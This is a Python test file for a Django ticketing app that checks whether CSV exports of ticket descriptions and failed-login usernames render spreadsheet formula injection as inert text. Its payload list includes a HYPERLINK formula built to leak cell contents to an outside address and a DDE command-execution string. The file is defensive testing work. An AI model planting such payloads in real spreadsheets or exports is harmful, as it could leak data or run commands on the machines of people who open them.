"""No export runs code: what a person typed comes out of every CSV and .xlsx as inert text.

Stories: 小王 logs a problem whose description is a formula that would leak the sheet to a
server, at a place "=1+1"; the supervisor exports the ledger as CSV and as .xlsx. Someone
tries to log in as "=cmd|' /C calc'!A0" and the audit admin exports the log. An admin's
checklist import carries a 任务要求 that starts with "="; the leader prints the scoring sheet.
The admin generates November's 月度情况专报, imports people with a formula for a name and
downloads their one-time passwords, and downloads the import templates that list the
district's units.
"""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse

from campaigns.models import AuditKind, Ticket

from .test_accounts import duty_holder

pytestmark = pytest.mark.django_db

SH = ZoneInfo("Asia/Shanghai")
NOW = datetime.datetime(2026, 11, 20, 10, 0, tzinfo=SH)
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
# One of each start OWASP names, and the two payloads seen in the wild.
HOSTILE = [
    pytest.param("=1+1", id="equals"),
    pytest.param("+1+1", id="plus"),
    pytest.param("-1+1", id="minus"),
    pytest.param("@SUM(1+1)", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="cr"),
    pytest.param(HYPERLINK, id="hyperlink"),
    pytest.param(DDE, id="dde"),
]


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


def inert_csv(typed):
    """What the CSV must hold for `typed`: the text behind an apostrophe, never a live formula."""
    return "'" + typed


def logged_with(tx, typed):
    """小王's ticket whose description and place are `typed`.

    Logging strips the text, so a tab or CR in front is put back on the row as typed: the
    export must not rely on every path that writes a ticket stripping it.
    """
    ticket = tx.assigned(point=None, street=tx.street, place=typed, description=typed)
    Ticket.objects.filter(pk=ticket.pk).update(description=typed, place=typed)
    return ticket


class TestTicketListCsv:
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_description_and_place_are_text(self, client, tx, typed):
        ticket = logged_with(tx, typed)
        client.force_login(tx.supervisor)
        rows = csv_rows(client.get(reverse("campaigns:ticket-export", args=["csv"])))
        header, (row,) = rows[0], rows[1:]
        assert row[0] == ticket.number
        assert row[header.index("问题描述")] == inert_csv(typed)
        assert row[header.index("点位/地点")] == inert_csv(typed)
        assert row[header.index("退回次数")] == "0"  # a number the code wrote stays a number


class TestAuditLogCsv:
    @pytest.mark.parametrize("typed", HOSTILE)
    def test_an_anonymous_failed_login_is_text(self, client, tx, typed):
        client.post("/accounts/login/", {"username": typed, "password": "nope"}, REMOTE_ADDR="10.8.0.9")
        client.force_login(duty_holder("shenji", "audit"))
        rows = csv_rows(client.get(reverse("security-audit-export"), {"kind": AuditKind.LOGIN_FAILED}))
        header, (row,) = rows[0], rows[1:]
        # The login form strips the username it is given; what it kept is what the log shows.
        assert row[header.index("账号")] == inert_csv(typed.strip())
